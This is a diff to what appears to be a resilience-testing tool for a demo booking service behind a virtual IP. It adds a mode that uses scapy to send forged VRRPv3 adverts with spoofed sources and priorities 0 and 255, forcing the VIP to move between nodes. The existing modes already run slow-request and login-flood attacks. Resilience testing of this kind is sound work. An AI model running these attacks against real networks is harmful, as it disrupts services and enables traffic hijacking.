@@ -8,11 +8,18 @@ client's own address every second:
 
     ... logins --per-minute 1000    (the user's password in ROOMBOOK_PASSWORD)
 
+    ... vrrp --vrid 51 --node 10.54.0.10,192.168.57.102 --node 10.54.0.11,192.168.57.103
+
 `slow`: uploads that declare a 512 KiB body and send it at 1 KiB a second,
 and requests whose headers come one line every few seconds, spread over the
 targets, each reopened as soon as it ends. `logins`: wrong passwords at the
-given rate against every target. Prints one JSON summary when done: what the
-targets answered, and every sign-in of the real user (seconds, status)."""
+given rate against every target. `vrrp`: forged VRRPv3 adverts for the VIP's
+router id (scapy, as raw frames to each node's MAC), each node's "from" the
+other's public and interconnect addresses, to its public and interconnect
+addresses, priority 0 (the holder resigning: the other would take the VIP)
+and 255 (the other claiming it: the holder would yield), ten rounds a second.
+Prints one JSON summary when done: what the targets answered, and every
+sign-in of the real user (seconds, status)."""
 
 from __future__ import annotations
 
@@ -133,6 +140,35 @@ def login_flood(target: str, port: int, source: str, tls: bool, per_s: float, un
         time.sleep(max(0.0, start + n / per_s - time.monotonic()))
 
 
+def forge_adverts(vip: str, vrid: int, nodes: list[tuple[str, str]], per_s: float,
+                  until: float, tally: Tally) -> None:
+    """nodes: (public, interconnect) addresses of each node."""
+    from scapy.all import IP, Ether, conf, getmacbyip, sendp  # type: ignore[attr-defined]
+    from scapy.layers.vrrp import VRRPv3
+
+    frames, iface = [], None
+    for a_pub, a_ic in nodes:
+        for b_pub, b_ic in nodes:
+            if a_pub == b_pub:
+                continue
+            mac = getmacbyip(b_pub)
+            if mac is None:
+                tally.add(f"{b_pub}: no ARP answer, not attacked")
+                continue
+            iface = conf.route.route(b_pub)[0]
+            frames += [Ether(dst=mac) / IP(src=src, dst=dst, ttl=255, proto=112)
+                       / VRRPv3(vrid=vrid, priority=prio, ipcount=1, adv=10, addrlist=[vip])
+                       for src in (a_pub, a_ic) for dst in (b_pub, b_ic) for prio in (0, 255)]
+    sent = 0
+    while frames and time.monotonic() < until:
+        began = time.monotonic()
+        sendp(frames, iface=iface, verbose=False)
+        sent += len(frames)
+        time.sleep(max(0.0, began + 1 / per_s - time.monotonic()))
+    with tally.lock:
+        tally.seen["forged adverts sent"] += sent
+
+
 def real_user(base: str, email: str, password: str, ca: str, until: float,
               out: list[list[Any]]) -> None:
     """The demo user signs in through the VIP every second: (seconds, status)."""
@@ -170,6 +206,11 @@ def main(argv: list[str] | None = None) -> None:
     slow.add_argument("--headers", type=int, default=100)
     flood = sub.add_parser("logins")
     flood.add_argument("--per-minute", type=int, default=1000, help="per target")
+    vrrp = sub.add_parser("vrrp")
+    vrrp.add_argument("--vrid", type=int, required=True)
+    vrrp.add_argument("--node", action="append", required=True,
+                      help="a node's public,interconnect addresses (repeated)")
+    vrrp.add_argument("--rounds-per-second", type=float, default=10)
     a = ap.parse_args(argv)
     targets = a.targets.split(",")
     port = a.port or (443 if a.tls else 80)
@@ -181,6 +222,10 @@ def main(argv: list[str] | None = None) -> None:
             kind = "body" if i < a.bodies else "header"
             jobs.append(threading.Thread(target=slow_one, daemon=True, args=(
                 kind, targets[i % len(targets)], port, a.source, a.tls, until, tally)))
+    elif a.kind == "vrrp":
+        nodes = [tuple(n.split(",", 1)) for n in a.node]
+        jobs.append(threading.Thread(target=forge_adverts, daemon=True, args=(
+            a.vip, a.vrid, nodes, a.rounds_per_second, until, tally)))
     else:
         for target in targets:
             # Many at once: an unanswered try (a dropped SYN waits out its
